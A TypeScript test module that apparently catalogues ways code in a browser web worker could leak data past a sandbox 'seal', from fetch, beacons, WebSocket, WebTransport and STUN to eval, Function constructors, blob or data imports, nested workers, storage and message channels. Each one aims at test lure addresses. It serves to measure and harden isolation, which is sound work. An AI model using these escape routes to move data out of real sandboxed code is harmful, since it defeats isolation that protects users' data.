import type { Family } from './target.ts';

type EngineName = 'chromium' | 'firefox' | 'webkit';

/** The worker's globals as an attacker finds them. */
export type Globals = typeof globalThis & {
  readonly importScripts: (url: string) => void;
  readonly WebSocketStream: new (url: string) => { readonly opened: Promise<unknown> };
  readonly RTCPeerConnection?: typeof RTCPeerConnection;
  readonly SharedWorker?: typeof SharedWorker;
  readonly Notification?: typeof Notification;
  readonly navigator?: Navigator;
  readonly WebTransport: new (url: string) => { readonly ready: Promise<unknown> };
};

export interface Lures {
  /** Addresses that count: of another origin, of the page's own, and a UDP one. */
  readonly cross: string;
  readonly same: string;
  readonly udp: string;
}

/** One way out. Names are unique; a name is also the path under which its arrival is counted. */
export interface Attack {
  readonly name: string;
  readonly family: Family;
  /** Counted by its own claim (a storage or a channel), by UDP packets, else by requests. */
  readonly seen?: 'claim' | 'udp';
  /** Engines that have no such thing in a worker: the control does not expect it there. */
  readonly not?: readonly EngineName[];
  /**
   * A way that got out of no engine's worker, sealed or not (measured): no control can show an arrival. Held to instead:
   * nothing arrives, `has` finds its name in an open worker of these engines only, and in a sealed one of none.
   */
  readonly hasIn?: readonly EngineName[];
  readonly has?: (g: Globals) => boolean;
  /** Only a classic worker has it; the control then runs as one. */
  readonly classic?: true;
  readonly run: (g: Globals, lures: Lures) => unknown;
}

const fetching = (url: string): string => `fetch(${JSON.stringify(url)},{mode:'no-cors'}).catch(()=>0)`;
const blob = (g: Globals, source: string): string => g.URL.createObjectURL(new g.Blob([source], { type: 'text/javascript' }));
const load = (url: string): Promise<unknown> => import(/* @vite-ignore */ url);
const ALL: readonly EngineName[] = ['chromium', 'firefox', 'webkit'];
const make = (kind: unknown, ...values: readonly unknown[]): unknown => Reflect.construct(kind as () => unknown, values);
const construct = (g: unknown, code: string): unknown => (g as (source: string) => () => unknown)(code)();

export const ATTACKS: readonly Attack[] = [
  { name: 'fetch', family: 'requests', run: (g, to) => g.fetch(to.cross, { mode: 'no-cors' }) },
  { name: 'fetch-same', family: 'requests', run: (g, to) => g.fetch(to.same) },
  { name: 'fetch-keepalive', family: 'requests', run: (g, to) => g.fetch(to.cross, { mode: 'no-cors', keepalive: true }) },
  { name: 'fetch-post', family: 'requests', run: (g, to) => g.fetch(to.same, { method: 'POST', body: 'plaintext' }) },
  {
    name: 'fetch-from-prototype', family: 'requests',
    run: (_, to) => {
      let found: typeof fetch | undefined;
      for (let at: object | null = globalThis; at !== null; at = Object.getPrototypeOf(at) as object | null) {
        found ??= Object.getOwnPropertyDescriptor(at, 'fetch')?.value as typeof fetch | undefined;
      }
      return (found as typeof fetch).call(globalThis, to.cross, { mode: 'no-cors' });
    },
  },
  { name: 'xhr', family: 'requests', run: (g, to) => xhr(g, to.same, true) },
  { name: 'xhr-sync', family: 'requests', run: (g, to) => xhr(g, to.same, false) },
  {
    name: 'wasm-streaming', family: 'requests',
    run: (g, to) => g.WebAssembly.compileStreaming(g.fetch(to.cross, { mode: 'no-cors' })),
  },
  {
    name: 'send-beacon', family: 'requests', not: ALL, hasIn: [], has: (g) => g.navigator?.sendBeacon !== undefined,
    run: (g, to) => { g.navigator?.sendBeacon(to.same, 'plaintext'); },
  },
  {
    name: 'notification-icon', family: 'requests', not: ALL, hasIn: ALL, has: (g) => g.Notification !== undefined,
    run: (g, to) => make(g.Notification, 'plaintext', { icon: to.same }),
  },

  { name: 'websocket', family: 'sockets', run: (g, to) => new g.WebSocket(to.cross.replace('http', 'ws')) },
  { name: 'websocket-stream', family: 'sockets', not: ['firefox', 'webkit'], run: (g, to) => new g.WebSocketStream(to.cross.replace('http', 'ws')).opened },
  { name: 'event-source', family: 'sockets', run: (g, to) => new g.EventSource(to.same) },
  { name: 'web-transport', family: 'sockets', seen: 'udp', not: ['webkit'], run: (g, to) => new g.WebTransport(to.udp).ready },
  { name: 'peer-connection', family: 'sockets', seen: 'udp', not: ALL, hasIn: [], has: (g) => g.RTCPeerConnection !== undefined, run: askStun },

  { name: 'import-cross', family: 'modules', run: (_, to) => load(to.cross) },
  { name: 'import-same', family: 'modules', run: (_, to) => load(to.same) },
  { name: 'import-data', family: 'modules', run: (_, to) => load(`data:text/javascript,${encodeURIComponent(fetching(to.cross))}`) },
  { name: 'import-blob', family: 'modules', run: (g, to) => load(blob(g, fetching(to.cross))) },
  { name: 'import-scripts', family: 'modules', classic: true, run: (g, to) => { g.importScripts(to.cross); } },

  { name: 'nested-worker', family: 'workers', run: (g, to) => new g.Worker(to.same) },
  { name: 'nested-module-worker', family: 'workers', run: (g, to) => new g.Worker(to.same, { type: 'module' }) },
  { name: 'nested-blob-worker', family: 'workers', run: (g, to) => new g.Worker(blob(g, fetching(to.cross))) },
  {
    name: 'shared-worker', family: 'workers', not: ALL, hasIn: [], has: (g) => g.SharedWorker !== undefined,
    run: (g, to) => make(g.SharedWorker, to.same),
  },

  { name: 'eval', family: 'code-from-strings', run: (g, to) => g.eval(fetching(to.cross)) as unknown },
  { name: 'function', family: 'code-from-strings', run: (g, to) => construct(g.Function, fetching(to.cross)) },
  { name: 'function-of-a-function', family: 'code-from-strings', run: (_, to) => construct((() => 0).constructor, fetching(to.cross)) },
  { name: 'async-function', family: 'code-from-strings', run: (_, to) => construct((async () => 0).constructor, fetching(to.cross)) },
  {
    name: 'generator-function', family: 'code-from-strings',
    run: (_, to) => (construct(function* () { yield 0; }.constructor, fetching(to.cross)) as Iterator<unknown>).next(),
  },
  {
    name: 'async-generator-function', family: 'code-from-strings',
    run: (_, to) => (construct(async function* () { yield 0; }.constructor, fetching(to.cross)) as AsyncIterator<unknown>).next(),
  },
  { name: 'string-timer', family: 'code-from-strings', run: (g, to) => { g.setTimeout(fetching(to.cross), 0); } },
  { name: 'string-interval', family: 'code-from-strings', run: (g, to) => { g.setInterval(fetching(to.cross), 20); } },

  { name: 'font-face', family: 'fonts', run: (g, to) => new g.FontFace('x', `url(${to.same})`).load() },

  { name: 'cache-add', family: 'storage', run: async (g, to) => (await g.caches.open('inward-attack')).add(to.same) },
  { name: 'cache', family: 'storage', seen: 'claim', run: async (g) => { await g.caches.open('inward-attack'); return 'claim'; } },
  { name: 'indexed-db', family: 'storage', seen: 'claim', run: openDatabase },
  {
    name: 'origin-private-files', family: 'storage', seen: 'claim', not: ['webkit'],
    run: async (g) => { await (await g.navigator.storage.getDirectory()).getFileHandle('inward-attack', { create: true }); return 'claim'; },
  },
  { name: 'locks', family: 'storage', seen: 'claim', run: (g) => g.navigator.locks.request('inward-attack', () => 'claim') },

  { name: 'broadcast-channel', family: 'channels', seen: 'claim', run: (g) => { new g.BroadcastChannel('inward-attack').postMessage('plaintext'); return 'claim'; } },
  { name: 'message-to-the-page', family: 'channels', seen: 'claim', run: (g) => { (g.postMessage as (data: unknown) => void)({ leak: 'plaintext' }); return 'claim'; } },
  { name: 'console', family: 'channels', seen: 'claim', run: (g) => { g.console.debug('inward-attack'); return 'claim'; } },
];

function xhr(g: Globals, url: string, later: boolean): void {
  const request = new g.XMLHttpRequest();
  request.open('GET', url, later);
  request.send();
}

/** Candidates of a data channel: the first question goes to the STUN server. */
async function askStun(g: Globals, to: Lures): Promise<void> {
  const peer = make(g.RTCPeerConnection, { iceServers: [{ urls: `stun:${to.udp.split('/')[2] ?? ''}` }] }) as RTCPeerConnection;
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
}

function openDatabase(g: Globals): Promise<string> {
  return new Promise((resolve, reject) => {
    const request = g.indexedDB.open('inward-attack');
    request.onsuccess = () => { request.result.close(); resolve('claim'); };
    request.onerror = () => { reject(new Error('refused')); };
  });
}

/** Everything an attacker might keep from before the seal. */
export const HELD = [
  'fetch', 'XMLHttpRequest', 'WebSocket', 'WebSocketStream', 'WebTransport', 'EventSource', 'Worker', 'Blob', 'URL', 'importScripts',
  'FontFace', 'SharedWorker', 'RTCPeerConnection', 'Notification', 'navigator', 'caches', 'setTimeout', 'setInterval', 'eval', 'Function', 'WebAssembly',
] as const;
